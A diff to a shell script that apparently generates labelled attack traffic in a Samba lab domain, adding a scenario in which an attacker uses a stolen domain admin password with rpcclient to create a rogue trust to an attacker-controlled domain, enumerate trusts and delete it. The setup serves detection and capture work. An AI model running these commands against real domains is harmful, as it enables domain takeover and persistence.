@@ -960,3 +960,15 @@ sc_benign_delegation_toggle() {
   sync_directory benign_delegation_toggle
   st delegation for-any-service 'WEB01$' off >/dev/null
 }
+
+SCEN_LIST="$SCEN_LIST trust_created"
+
+sc_trust_created() {
+  cap_begin trust_created attack T1484.002 "$ATK_IP" "PARTNER (a trust created, then deleted)" \
+    "A rogue trust: with da_admin's stolen password the attacker creates a trust to a domain it runs, PARTNER (S-1-5-21-1-2-3), over LSARPC (rpcclient createtrustdom: LsarCreateTrustedDomain, an outbound trust without SID filtering), lists the domain's trusts and deletes it again (deletetrustdom). Samba does not let LDAP write trusted domain objects; the LSA does."
+  on atk -- rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" "$DC_IP" -c 'createtrustdom PARTNER S-1-5-21-1-2-3'
+  on atk -- rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" "$DC_IP" -c 'enumtrust'
+  on atk -- rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" "$DC_IP" -c 'deletetrustdom PARTNER'
+  expect "dcerpc && ip.src==$ATK_IP" 3
+  cap_end
+}
